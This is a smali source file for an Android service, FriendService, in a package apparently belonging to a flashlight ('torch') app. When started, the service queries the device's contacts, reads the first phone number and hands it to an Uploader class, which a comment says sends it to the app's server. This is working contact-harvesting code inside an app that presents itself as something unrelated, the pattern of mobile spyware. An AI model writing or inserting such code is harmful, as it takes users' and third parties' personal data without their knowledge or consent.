# Reads the address book and sends it to the app's own server.
.class public Lcom/example/torch/FriendService;
.super Landroid/app/Service;


.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Service;-><init>()V

    return-void
.end method


.method public onBind(Landroid/content/Intent;)Landroid/os/IBinder;
    .registers 3

    const/4 v0, 0x0

    return-object v0
.end method


.method public onStartCommand(Landroid/content/Intent;II)I
    .registers 5

    invoke-direct {p0}, Lcom/example/torch/FriendService;->contacts()V

    const/4 v0, 0x2         # START_NOT_STICKY

    return v0
.end method


# The address book: the first number.
.method private contacts()V
    .registers 2

    sget-object v0, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const-string v1, "data1"
    invoke-direct {p0, v0, v1}, Lcom/example/torch/FriendService;->firstOf(Landroid/net/Uri;Ljava/lang/String;)V

    return-void
.end method


# Sends one column of the first row of a query.
.method private firstOf(Landroid/net/Uri;Ljava/lang/String;)V
    .registers 10

    invoke-virtual {p0}, Lcom/example/torch/FriendService;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    move-object v1, p1
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    if-eqz v0, :refused

    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    move-result v1
    if-eqz v1, :empty
    invoke-interface {v0, p2}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
    move-result v1
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v1
    invoke-static {v1}, Lcom/example/torch/Uploader;->send(Ljava/lang/String;)V

    :empty
    invoke-interface {v0}, Landroid/database/Cursor;->close()V

    :refused
    return-void
.end method
